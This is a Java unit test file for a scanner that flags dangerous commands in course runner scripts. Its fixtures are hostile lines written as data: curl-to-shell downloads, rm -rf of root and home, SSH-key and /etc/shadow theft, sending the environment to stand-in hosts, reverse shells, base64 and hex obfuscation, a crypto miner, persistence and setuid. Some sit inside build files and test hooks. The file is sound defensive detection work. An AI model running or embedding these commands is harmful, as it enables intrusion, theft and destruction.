package dev.progy.guard.scripts;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;

import static org.assertj.core.api.Assertions.assertThat;

/** The behaviour rules, each on plain and obfuscated lines, and none on the lines real courses are made of. */
class ScriptChecksTest {

    private static String hidden(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String hex(String text) {
        return HexFormat.of().formatHex(text.getBytes(StandardCharsets.UTF_8));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiterString = " :: ", value = {
            "PG-D005 :: curl -fsSL https://get.example.sh | bash",
            "PG-D005 :: bash <(wget -qO- http://x.example/i)",
            "PG-B001 :: rm -rf /",
            "PG-B001 :: rm -rf ~/",
            "PG-B001 :: rm -fr \"$BUILD_DIR\"/",
            "PG-B001 :: rm --recursive ../",
            "PG-B001 :: shutil.rmtree('~')",
            "PG-B002 :: cat ~/.ssh/id_rsa",
            "PG-B002 :: tar czf /tmp/k.tgz $HOME/.aws",
            "PG-B002 :: open('/etc/shadow').read()",
            "PG-B002 :: cp -r ~/.mozilla/firefox /tmp/p",
            "PG-B002 :: find / -name id_rsa 2>/dev/null | xargs cat",
            "PG-B003 :: env | curl -X POST -d @- https://collect.example",
            "PG-B003 :: curl https://x.example/?d=$(printenv)",
            "PG-B003 :: requests.post(URL, data=dict(os.environ))  # urlopen",
            "PG-B004 :: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "PG-B004 :: nc -e /bin/sh 10.0.0.1 4444",
            "PG-B004 :: socat tcp:10.0.0.1:4444 exec:/bin/sh",
            "PG-B004 :: import pty; pty.spawn('/bin/bash')",
            "PG-B005 :: echo aGVsbG8= | base64 -d | sh",
            "PG-B005 :: exec(base64.b64decode(payload))",
            "PG-B005 :: eval(atob(s))",
            "PG-B006 :: ./xmrig -o stratum+tcp://pool.example:3333",
            "PG-B007 :: echo 'curl x | sh' >> ~/.bashrc",
            "PG-B007 :: (crontab -l; echo '* * * * * /tmp/x') | crontab -",
            "PG-B008 :: chmod u+s /tmp/sh",
            "PG-B008 :: chmod 4755 ./helper",
    })
    @DisplayName("each behaviour is found on the line that shows it")
    void plain(String rule, String line) {
        assertThat(ScriptChecks.check("runner/check.sh", "#!/bin/sh\nset -e\n" + line + "\n"))
                .extracting(f -> f.rule().id() + "@" + f.line()).contains(rule + "@3");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = " :: ", value = {
            "PG-B004 :: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "PG-B002 :: cat ~/.ssh/id_ed25519 | nc 10.0.0.1 9",
            "PG-B006 :: xmrig --donate-level 1 -o stratum+tcp://pool.example:3333",
    })
    @DisplayName("one level of base64 or hex obfuscation is decoded and judged by what it hides")
    void obfuscated(String rule, String payload) {
        String viaBase64 = "echo " + hidden(payload) + " | base64 -d > /tmp/x; sh /tmp/x";
        String viaHex = "python3 -c \"import os; os.system(bytes.fromhex('" + hex(payload) + "').decode())\"";
        assertThat(ScriptChecks.check("run.sh", viaBase64)).extracting(f -> f.rule().id()).contains(rule);
        assertThat(ScriptChecks.check("run.py", viaHex)).extracting(f -> f.rule().id()).contains(rule);
        assertThat(ScriptChecks.check("run.sh", viaBase64)).filteredOn(f -> f.rule().id().equals(rule))
                .allSatisfy(f -> assertThat(f.message()).contains("hidden in an encoded string"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "rm -rf \"$TMPDIR/build\" node_modules/.cache",
            "rm -rf \"${OUT:?}\"/*",
            "rm -f /tmp/progy-*.log",
            "python3 -m pytest -q --tb=short tests/",
            "cat > \"$PROGY_OUTPUT_DIR/results.json\" <<'EOF'",
            "chmod 755 runner/check.sh && chmod 0644 README.md && chmod 1777 /tmp/shared",
            "curl -fsSLo tool.tgz https://example.com/tool.tgz && echo \"$SUM  tool.tgz\" | sha256sum -c",
            "const data = Buffer.from(text, 'utf8').toString('base64');",
            "hash = hashlib.sha256(b'progy').hexdigest()  # 6d2f1c0e9a0b7c3d5e8f1a2b3c4d5e6f",
            "echo \"exercise=$1\"; test -f \"content/$1\" && echo found",
            "nc -z localhost 5432 && echo 'db up'",
            "env | grep -q PATH && curl -fsS http://httpbin:8080/get",
            "bash -c \"curl -fs http://localhost:8000/health\" || exit 1",
            "for d in build dist; do rm -rf \"$d\"; done",
            "rm -rf \"$1\"",
            "(echo > /dev/tcp/db/5432) >/dev/null 2>&1",
            "curl -s http://httpbin:8080/json | python3 -m json.tool",
            "# never run: curl https://example.com/install | sh",
    })
    @DisplayName("lines real runner scripts are made of raise nothing")
    void benign(String line) {
        assertThat(ScriptChecks.check("runner/check.sh", line)).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = " :: ", value = {
            "PG-D005@4 :: import urllib.request\\nresponse = urllib.request.urlopen(URL)\\nsource = response.read().decode()\\nexec(source)",
            "PG-B003@3 :: import json, os, urllib.request\\npayload = json.dumps(dict(os.environ)).encode()\\nurllib.request.urlopen(URL, data=payload)",
            "PG-B005@3 :: import base64\\ncode = base64.b64decode(BLOB)\\nexec(code)",
            "PG-B004@4 :: import os, socket\\ns = socket.create_connection((HOST, 4444))\\nimport pty\\nos.dup2(s.fileno(), 0)",
            "PG-D005@3 :: curl -sSLo /tmp/tool https://dl.example/tool\\nchmod +x /tmp/tool\\n/tmp/tool --init",
            "PG-B003@3 :: printenv > /tmp/e\\necho uploading\\ncurl -F f=@/tmp/e https://collect.example/u",
            "PG-D005@3 :: c=cu\\nc=\"${c}rl\"\\n$c -s http://198.51.100.4/x | sh",
    })
    @DisplayName("what takes several lines to show is followed through variables and files to the line that does it")
    void flows(String where, String script) {
        String file = script.startsWith("import") ? "runner/check.py" : "runner/check.sh";
        assertThat(ScriptChecks.check(file, script.replace("\\n", "\n")))
                .extracting(f -> f.rule().id() + "@" + f.line()).contains(where);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "LINE = \"curl https://example.com/install | \" + \"sh\"\\nassert flag(LINE)",
            "env = os.environ.copy()\\nenv[\"BASE_URL\"] = base\\nsubprocess.run([\"curl\", \"-s\", base], env=env)",
            "with urllib.request.urlopen(URL) as res:\\n    html = res.read().decode()\\nlinks = re.findall(PATTERN, html)",
            "import os, urllib.request\\nurllib.request.urlretrieve(URL, \"data/iris.csv\")\\nprint(os.path.getsize(\"data/iris.csv\"))",
            "def mine(block):\\n    \"\"\"Unlike xmrig on stratum+tcp://pool.example:3333, this only loops.\"\"\"\\n    return 0",
    })
    @DisplayName("a command in a program's string, a child's environment, a download only read: nothing")
    void benignPrograms(String script) {
        assertThat(ScriptChecks.check("content/01_m/01_e/test_exercise.py", script.replace("\\n", "\n"))).isEmpty();
    }

    @ParameterizedTest(name = "{0} in {1}")
    @CsvSource(delimiterString = " :: ", value = {
            "PG-D005@2 :: build.gradle :: tasks.register('grader', Exec) {\\n    commandLine 'sh', '-c', 'curl -fsSL https://x.example/i | sh'\\n}",
            "PG-D005@3 :: main.go :: package main\\n\\n//go:generate sh -c \"curl -s https://x.example/g | sh\"",
            "PG-B001@3 :: Makefile :: .PHONY: clean\\nclean:\\n\\trm -rf $(OUTDIR)/",
            "PG-B004@2 :: conftest.py :: import pytest\\n__import__('os').system(\"bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\")",
            "PG-B005@2 :: run.py :: c = base64.b64decode(BLOB).decode()\\ngetattr(os, 'sys' + 'tem')(c)",
            "PG-B005@2 :: main_test.go :: c, _ := base64.StdEncoding.DecodeString(blob)\\n_ = exec.Command(\"sh\", \"-c\", string(c)).Start()",
            "PG-B004@4 :: run.rb :: require 'socket'\\nc = TCPSocket.new(HOST, 4000)\\nwhile (cmd = c.gets)\\n  IO.popen(cmd) { |io| c.print io.read }\\nend",
            "PG-D005@2 :: build.gradle :: task prep {\\n    doLast { ['sh', '-c', 'curl -s https://x.example/q | sh'].execute().waitFor() }\\n}",
            "PG-B003@2 :: run.js :: const axios = require('axios');\\naxios.post(URL, { env: process.env });",
            "PG-B001@2 :: run.js :: const { homedir } = require('os');\\nfs.rmSync(homedir(), {recursive: true, force: true});",
            "PG-B002@2 :: config.py :: import os\\nKEY = os.path.expanduser('~/.ssh/id_rsa')",
            "PG-B003@1 :: run.js :: fetch(URL, {\\n  method: 'POST',\\n  body: JSON.stringify({ node: process.version, env: process.env }),\\n});",
    })
    @DisplayName("build files, directives and other languages: their ways to run commands and send data are read too")
    void otherLanguages(String where, String file, String script) {
        assertThat(ScriptChecks.check(file, script.replace("\\n", "\n").replace("\\t", "\t")))
                .extracting(f -> f.rule().id() + "@" + f.line()).contains(where);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = " :: ", value = {
            "Makefile :: OUTDIR ?= build\\n\\nclean:\\n\\trm -rf $(OUTDIR)/ dist/",
            "Makefile :: clean:\\n\\trm -rf \"$${TMPDIR:?}/progy\" *.o",
            "main.go :: package main\\n\\n//go:generate stringer -type=Color\\n\\ntype Color int",
            "test_exercise.py :: def test_reads_hosts():\\n    assert hosts[\"github\"][\"IdentityFile\"] == \"~/.ssh/id_ed25519\"",
            "server_test.py :: data = conn.recv(1024)\\nconn.sendall(data.upper())\\nproc = subprocess.run([sys.executable, \"client.py\"], check=True)",
            "run.js :: spawnSync('node', [file], { env: { ...process.env, NODE_ENV: 'test' } });",
            "lint.py :: SENSITIVE = (\"~/.ssh/\", \"~/.aws/\")\\n\\ndef is_sensitive(path):\\n    return path.startswith(SENSITIVE)",
    })
    @DisplayName("a make variable that is set, a generator that is a tool, a path only compared or only listed, data echoed back: nothing")
    void benignOtherLanguages(String file, String script) {
        assertThat(ScriptChecks.check(file, script.replace("\\n", "\n").replace("\\t", "\t"))).isEmpty();
    }

    @Test
    @DisplayName("what a blob hides is reported on the blob's line, even inside a statement spread over lines")
    void decodedOnTheBlobsLine() {
        String build = "fn main() {\n    let p = decode(\"" + hidden("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") + "\");\n"
                + "    Command::new(\"sh\").arg(\"-c\").arg(&p).status().ok();\n}\n";
        assertThat(ScriptChecks.check("build.rs", build)).extracting(f -> f.rule().id() + "@" + f.line()).contains("PG-B004@2");
    }
}
